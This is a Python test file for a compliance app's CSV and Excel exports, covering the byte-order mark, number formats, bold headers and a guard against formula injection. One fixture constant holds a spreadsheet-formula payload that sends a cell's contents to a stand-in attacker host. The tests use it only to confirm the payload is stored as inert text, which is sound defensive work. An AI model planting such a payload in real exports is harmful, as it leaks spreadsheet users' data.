"""CSV and Excel exports: every CSV with a UTF-8 byte order mark and ``charset=utf-8`` (Excel reads "§" and "Żółć",
not "Â§"); every table with a CSV also as .xlsx, its numbers as numbers, its header in bold, and text a spreadsheet
would run as a formula ("=HYPERLINK(…)" typed as a name) stored as text."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from compliance.exports import BOM, CSV_TYPE, XLSX_TYPE, csv_response, sections_csv, xlsx_bytes
from compliance.roles import Role
from tests.factories import make_person
from tests.testapp.models import TwoPersonForm

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Łukasz Żółć")'


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_csv(response: Any) -> list[list[str]]:
    """A CSV response as Excel needs it: the BOM once, first; UTF-8 declared. Its rows."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;") and '.csv"' in response["Content-Disposition"]
    data = body(response)
    assert data.startswith(BOM.encode()) and not data[3:].startswith(BOM.encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def workbook_rows(response: Any) -> tuple[Any, list[list[Any]]]:
    """An .xlsx response opened with openpyxl: its sheet and the rows' cells."""
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    assert '.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    return sheet, [list(row) for row in sheet.iter_rows()]


def test_a_csv_response_carries_the_byte_order_mark_once_and_the_charset():
    whole = csv_response("a.csv", "Clause,§ 525.21\nName,Żółć\n")
    assert whole["Content-Type"] == CSV_TYPE and whole.content.decode("utf-8").startswith(BOM + "Clause")
    again = csv_response("a.csv", BOM + "x\n")  # already marked: not twice
    assert again.content.decode("utf-8") == BOM + "x\n"
    streamed = csv_response("b.csv", iter(["a,b\r\n", "1,2\r\n"]))
    assert body(streamed).decode("utf-8") == BOM + "a,b\r\n1,2\r\n" and streamed["Content-Type"] == CSV_TYPE


def test_the_workbook_keeps_a_formula_as_text_numbers_as_numbers_and_the_header_bold():
    data = xlsx_bytes(["Heading"], [("Section", ["Name", "Count", "Sum", "Share", "Serial", "Odds", "Code"],
                                     [[HOSTILE, "1,234", "$1,234.50", "5.2632%", "100000000001", "1/38", "007"],
                                      ["+1 (555) 0100", 57, "-$5.00", "-3", "MP-0000001", "35 to 1", "@sum"]])])
    sheet = load_workbook(io.BytesIO(data)).active
    rows = [list(row) for row in sheet.iter_rows()]
    assert rows[0][0].value == "Heading" and rows[0][0].font.b
    assert rows[2][0].value == "Section" and rows[3][0].value == "Name" and all(c.font.b for c in rows[3] if c.value)
    hostile = rows[4][0]
    assert hostile.value == HOSTILE and hostile.data_type == "s"  # stored as text: never evaluated
    assert [c.value for c in rows[4][1:]] == [1234, 1234.5, 0.052632, 100000000001, "1/38", "007"]  # as read back
    assert rows[4][1].number_format == "#,##0" and rows[4][2].number_format == '"$"#,##0.00'
    assert [c.value for c in rows[5]] == ["+1 (555) 0100", 57, -5, -3, "MP-0000001", "35 to 1", "@sum"]
    assert rows[5][0].data_type == "s" and rows[5][-1].data_type == "s"
    # the CSV of the same sections guards the same cell with an apostrophe
    assert [f"'{HOSTILE}"] in list(csv.reader(io.StringIO(sections_csv([], [("", ["Name"], [[HOSTILE]])]))))


@pytest.mark.django_db
def test_the_audit_trail_downloads_as_csv_and_xlsx_with_a_formula_name_kept_as_text(facility, compliance_officer,
                                                                                     client_for, as_user):
    typist = make_person(Role.MARKETING_SUPERVISOR, facility, full_name=HOSTILE)
    with as_user(typist):
        form = TwoPersonForm.objects.create(facility=facility, note="Żółć § 525.21")
    client = client_for(compliance_officer)
    query = {"model": "testapp.TwoPersonForm", "object_id": form.pk}
    rows = assert_csv(client.get("/audit/export.csv", query))
    assert rows[0][:4] == ["occurred_at", "user", "credential", "action"]
    assert rows[1][1] == f"'{HOSTILE}" and "Żółć § 525.21" in rows[1][6]
    sheet, cells = workbook_rows(client.get("/audit/export.xlsx", query))
    assert [c.value for c in cells[0]][:4] == ["occurred_at", "user", "credential", "action"] and cells[0][0].font.b
    assert cells[1][1].value == HOSTILE and cells[1][1].data_type == "s"
    assert cells[1][5].value == form.pk  # the record's id: a number
    assert sheet.freeze_panes == "A2"
    page = client.get("/audit/").content.decode()
    assert "/audit/export.xlsx?" in page


@pytest.mark.django_db
def test_a_games_figures_download_as_csv_and_xlsx(facility, compliance_officer, client_for):
    client = client_for(compliance_officer)
    rows = assert_csv(client.get("/games/sic-bo/figures.csv"))
    assert rows[0][0] == "Exact odds and house advantage — Sic Bo" and "§" in rows[0][3]
    _sheet, cells = workbook_rows(client.get("/games/sic-bo/figures.xlsx"))
    assert cells[0][0].value == "Exact odds and house advantage — Sic Bo" and cells[0][0].font.b
    values = [c.value for row in cells for c in row]
    fractions = [v for v in values if isinstance(v, str) and "/" in v and v.replace("/", "").isdigit()]
    percents = [c for row in cells for c in row if c.number_format == "0.00##%"]
    assert fractions and percents and all(isinstance(c.value, float) for c in percents)
    assert "/games/sic-bo/figures.xlsx" in client.get("/games/sic-bo/").content.decode()
